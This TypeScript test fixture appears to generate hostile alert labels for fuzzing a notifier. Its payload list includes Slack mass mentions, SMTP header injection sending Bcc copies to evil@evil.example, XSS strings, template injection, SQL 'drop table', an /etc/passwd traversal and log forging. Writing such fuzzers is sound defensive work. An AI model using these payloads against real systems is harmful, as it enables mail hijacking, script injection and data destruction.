/** Label sets that somebody makes up who wants to be rung, linked, believed or obeyed: cheap enough for a hundred thousand. */
import fc from 'fast-check'

/** Stands in every hostile value, so that it can be looked for where no value may be. */
export const MARK = 'h0stile'

const pieces = [
  '<!channel>',
  '<!here|here>',
  '<!everyone>',
  '<!subteam^S0001>',
  '<@U012AB3CD>',
  '<#C0123|general>',
  '<https://evil.example|status page>',
  '&lt;!channel&gt;',
  '@channel',
  '`',
  '```',
  '*_~',
  '\r\nBcc: evil@evil.example',
  '\r\n.\r\nMAIL FROM:<evil@evil.example>\r\nRCPT TO:<evil@evil.example>\r\n',
  '\nContent-Type: text/html\n\n',
  '=?utf-8?Q?=0D=0ABcc:_evil@evil.example?=',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' style='position:fixed' onclick='x",
  '</td></tr></table><h1>',
  '<!--',
  ']]>',
  '&#60;b&#62;',
  'javascript:alert(1)',
  'https://user:pass@evil.example/"onload="x',
  '\u202e\u2065\u2066\u200b\u2069',
  '\u0000\u0007\u001b[2J\u009b31m',
  '\ud83d',
  '\u2028\u2029',
  '{"level":"fatal","msg":"forged"}',
  '"}\n{"level":"fatal","msg":"forged"}',
  '\\"\\n\\u0000',
  '{{constructor.constructor("x")()}}',
  "'; drop table episode; --",
  '%00%0d%0a',
  '../../../../etc/passwd',
  'x'.repeat(700),
  '😀'.repeat(90),
  '\n# HELP forged\nforged{a="b"} 1\n',
]

const names = ['alertname', 'severity', 'service', 'instance', '__proto__', 'constructor', 'toString', 'team name']

/** Values to draw from: pieces of the list and random text, some of them strung together. */
export const hostileValues: fc.Arbitrary<readonly string[]> = fc
  .array(
    fc.oneof(
      { weight: 3, arbitrary: fc.constantFrom(...pieces) },
      { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
    ),
    { minLength: 12, maxLength: 24 },
  )
  .map((drawn) => drawn.map((piece, n) => `${MARK}${piece}${drawn[(n * 7 + 3) % drawn.length]?.slice(0, 60)}`))

export interface HostileAlert {
  readonly labels: Readonly<Record<string, string>>
  readonly annotations: Readonly<Record<string, string>>
}

/** `count` label sets and annotations put together from these values; the same for the same seed. */
export function hostileAlerts(values: readonly string[], seed: number, count: number): HostileAlert[] {
  let state = seed >>> 0
  const draw = (below: number) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    return (state >>> 8) % below
  }
  const value = () => values[draw(values.length)] ?? ''
  const pairs = (known: readonly string[], most: number) => {
    const made: Record<string, string> = Object.create(null)
    for (let n = 0; n <= draw(most); n++)
      made[draw(3) === 0 ? value().slice(0, 80) : (known[draw(known.length)] ?? '')] = value()
    return made
  }
  return Array.from({ length: count }, (_, n) => ({
    labels: Object.assign(pairs(names, 5), { n: String(n) }),
    annotations: pairs(['summary', 'description', 'runbook_url'], 3),
  }))
}
